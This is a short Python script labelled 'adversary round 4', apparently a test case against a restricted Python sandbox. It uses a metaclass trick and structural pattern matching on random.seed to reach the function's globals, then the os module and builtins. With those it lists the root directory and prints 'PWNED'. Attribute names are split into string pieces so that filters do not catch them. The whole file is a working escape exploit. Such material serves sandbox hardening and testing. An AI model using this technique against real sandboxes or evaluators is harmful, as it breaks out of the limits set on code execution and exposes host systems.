# adversary round 4: 004_match_decorated_os
import random
g = "__glo" + "bals__"
M = type("M", (type,), {"__instance" + "check__": lambda c, o: True})
def deco(c):
    return M("P", (), {"__match" + "_args__": (g,)})
@deco
class P:
    pass
match random.seed:
    case P(d):
        o = d["_o" + "s"]
        b = d["__buil" + "tins__"]
        print(repr(o), type(o))
        print(type(b), b["__name__"] if isinstance(b, dict) else b)
        print(o.getpid(), o.listdir("/"))
        print("PWN" + "ED")
